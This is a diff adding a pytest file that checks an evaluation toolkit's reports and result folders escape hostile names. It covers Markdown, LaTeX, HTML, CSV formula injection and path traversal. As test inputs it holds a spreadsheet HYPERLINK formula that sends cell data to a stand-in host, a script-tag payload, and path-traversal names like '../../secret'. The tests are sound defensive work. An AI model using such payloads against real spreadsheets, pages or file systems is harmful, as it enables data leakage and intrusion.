@@ -1,0 +1,113 @@
+"""Names and captions from elsewhere appear literally in every page, table and file that we write."""
+
+import csv
+import dataclasses
+import re
+from pathlib import Path
+
+import pytest
+
+from naturel_jax.evaluators import results
+from naturel_jax.report import compare, plots, report
+from naturel_jax.report.tables import MEASURED, Cell, Row
+from tfds_naturel.common import escape
+from tfds_naturel.release import card
+
+FORMULA = '=HYPERLINK("http://x.example?"&A1,"_$x^{")'
+SCORE = {"value": -0.5, "count": 2, "low": 0.0, "high": 1.0}
+
+
+@pytest.mark.parametrize(
+    ("text", "escaped"),
+    [
+        ("NegCLIP-AP", "NegCLIP-AP"),
+        ("vg_relation", "vg_relation"),
+        ("_a_ **b** `c`", r"\_a\_ \*\*b\*\* \`c\`"),
+        ("# a\n\n| b", r"\# a \| b"),
+        ("[x](y) <img src=z> &lt;", r"\[x\](y) \<img src=z\> \&lt;"),
+        ("a\x1b[2Jb\u202ec", "a\ufffd\\[2Jb\ufffdc"),
+    ],
+)
+def test_markdown(text, escaped):
+    assert escape.markdown(text) == escaped
+
+
+@pytest.mark.parametrize(("text", "span"), [("a_b", "`a_b`"), ("`", "`` ` ``"), ("a``b\n# c", "``` a``b # c ```")])
+def test_code_spans(text, span):
+    assert escape.code(text) == span
+
+
+@pytest.mark.parametrize(
+    ("text", "escaped"),
+    [("a_b & c%", r"a\_b \& c\%"), ("[1ex]*", "{[}1ex{]}{*}"), (r"\input{x}", r"\textbackslash{}input\{x\}")],
+)
+def test_latex(text, escaped):
+    assert escape.latex(text) == escaped
+
+
+@pytest.mark.parametrize("start", "=+-@\t\r")
+def test_cells_are_not_formulas(start):
+    assert escape.cell(f"{start}1") == f"'{start}1"
+    assert escape.cell(f"a{start}") == f"a{start}"
+
+
+def write_result(out: Path, model: str, **fields) -> results.Result:
+    """A result of ``model`` on VG-Relation, with fields replaced, where an evaluation writes it."""
+    scores = {"vg_relation/macro": SCORE, "vg_relation/relation/$on$_{": SCORE, "=1+1": SCORE}
+    values = {
+        "model": model,
+        "benchmark": "vg_relation",
+        "fingerprint": "",
+        "items": 1,
+        "published": 2,
+        "unreadable": 0,
+    }
+    result = results.Result(**values | {"problems": (), "scores": scores, "blind": {}} | fields)
+    folder = results.folder_of(out, model, result.benchmark)
+    folder.mkdir(parents=True)
+    row = {"version": results.VERSION, **dataclasses.asdict(result)}
+    (folder / "scores.json").write_text(results.json.dumps(row))
+    return result
+
+
+@pytest.mark.parametrize("model", [FORMULA, "_$\\frac{$", "<script>alert(1)</script>", "[x](http://y)", "*a*\n# b"])
+def test_report_shows_names_and_problems_literally(tmp_path, model):
+    write_result(tmp_path, model, problems=(f"record {model}\x1b[2J",))
+    report.write(tmp_path)
+    page, text, tex = ((tmp_path / f"report.{suffix}").read_text() for suffix in ("html", "md", "tex"))
+    assert "<script" not in page and "<script" not in re.sub(r"\\<", "", text)
+    assert "\x1b" not in text and not re.search(r"^# b|(?<!\\)\[x", text, re.MULTILINE)
+    assert r"\frac" not in tex and "$" not in tex.replace(r"\$", "")
+    with (tmp_path / "scores.csv").open(newline="") as file:
+        header, *rows = csv.reader(file)
+    assert {row[0].removeprefix("'") for row in rows} == {model, "chance"}
+    assert not any(cell.startswith(tuple("=+@")) for row in rows for cell in row)
+    assert [row[3] for row in rows if row[header.index("kind")] == "measured"] == ["-0.5"] * 3, "numbers stay numbers"
+
+
+def test_plots_draw_names_literally():
+    cells = {"vg_relation/relation/$x^{$": Cell(0.5, (0.4, 0.6))}
+    assert plots.by_relation([Row(name, MEASURED, cells) for name in ("$\\frac$", "_a", "$", "a\x07", "x" * 200)])
+
+
+@pytest.mark.parametrize("name", ["../../x", "/etc/x", "..", ".", "a/b", "a\0b", "x" * 300, "", "C:\\x"])
+def test_no_name_leaves_the_results(tmp_path, name):
+    for folder in (results.folder_of(tmp_path, name, "b"), results.folder_of(tmp_path, "a", name)):
+        assert len(folder.relative_to(tmp_path).parts) == 2 and ".." not in folder.parts
+        folder.mkdir(parents=True)
+        assert folder.resolve().parent.parent == tmp_path.resolve()
+
+
+def test_different_long_names_have_different_folders():
+    assert results.file_name("x" * 300) != results.file_name("x" * 301)
+
+
+def test_comparison_of_a_benchmark_elsewhere_is_not_found(tmp_path):
+    with pytest.raises(FileNotFoundError, match=r"evaluate 'a' on '\.\./\.\./secret' first"):
+        compare.main(["a", "b", "--out", str(tmp_path), "--benchmark", "../../secret"])
+
+
+def test_dataset_card_escapes_cells():
+    facts = {"options": {"bank": "a|b\n<img src=x>"}}
+    text = card.render("naturel/x", "A dataset.", {}, facts)
+    assert r"| bank | a\|b \<img src=x\> |" in text
